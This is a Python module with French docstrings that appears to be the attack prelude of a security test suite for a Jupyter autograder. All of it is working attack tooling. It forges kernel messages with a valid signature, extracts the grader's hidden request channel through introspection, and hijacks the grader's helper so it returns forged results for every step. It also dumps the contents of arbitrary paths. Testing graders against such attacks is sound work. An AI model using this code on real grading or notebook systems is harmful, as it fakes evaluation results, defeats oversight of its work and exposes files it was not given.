"""Ce que sait un attaquant bien renseigné : une cellule placée avant chaque attaque."""

import inspect
import json
import os
import sys
import threading
import types
from pathlib import Path

MIME = "application/vnd.autograder.reply"
DEMANDE = "is_complete_request"


def forger(kind, content, parent=None, parts=()):
    """Publie un message du noyau, signé comme les vrais."""
    kernel = get_ipython().kernel
    parent = kernel.get_parent() if parent is None else parent
    kernel.session.send(
        kernel.iopub_socket, kind, content=content, parent=parent, ident=b"x", buffers=list(parts)
    )


def forger_brut(header=None, parent=None, content=None):
    """La même chose, sans aucune vérification de la forme."""
    kernel = get_ipython().kernel
    usual = json.loads(json.dumps(kernel.session.msg_header("stream"), default=str))
    mine = json.loads(json.dumps(kernel.get_parent()["header"], default=str))
    parts = [usual if header is None else header, mine if parent is None else parent, {}, content]
    body = [part if isinstance(part, bytes) else json.dumps(part).encode() for part in parts]
    frames = [b"x", b"<IDS|MSG>", kernel.session.sign(body), *body]
    kernel.iopub_socket.send_multipart(frames)


def repondre(text, number=None):
    """Répond au correcteur, sur la ligne où il demande : à sa demande en cours, s'il y en a une."""
    text = text if isinstance(text, str) else json.dumps(text)
    ligne().send(((number or numero()) + text).encode("utf-8", "surrogatepass"))


def numero():
    """Le numéro de la demande à laquelle l'assistant répond."""
    frame = sys._current_frames()[threading.main_thread().ident]
    while frame is not None:
        asked = frame.f_locals.get("asked")
        if isinstance(asked, dict) and "number" in asked:
            return asked["number"]
        frame = frame.f_back
    return ""


def detourner(answer):
    """Remplace l'assistant du correcteur : `answer(request)` donne la réponse."""

    def attend(line, order, namespace):
        while True:
            asked = json.loads(line.recv())
            if asked["do"] != "answer":
                return
            repondre(answer(asked), asked["number"])

    def now(asked, namespace):
        repondre(answer(asked), asked["number"])
        attend(ligne(), None, namespace)
        raise KeyboardInterrupt

    assistant().update(attend=attend, answer=now)


def ligne():
    """La ligne par où vient chaque demande."""
    handler = get_ipython().kernel.shell_handlers[DEMANDE]
    return inspect.getclosurevars(handler.__func__).nonlocals["line"]


def assistant():
    """Les noms de l'assistant du correcteur, où qu'il les cache."""
    handler = get_ipython().kernel.shell_handlers[DEMANDE]
    return handler.__func__.__globals__


def partout(value):
    """Une réponse qui donne la même valeur encodée à chaque appel."""
    return lambda request: {
        "results": [{"value": value, "args": []} for _ in request["steps"]],
        "events": [],
    }


def lire(*paths):
    """Imprime tout ce qui peut être lu à ces endroits."""
    for path in map(Path, paths):
        try:
            print(path, [p.name for p in path.iterdir()] if path.is_dir() else path.read_text())
        except BaseException as error:
            print(path, type(error))
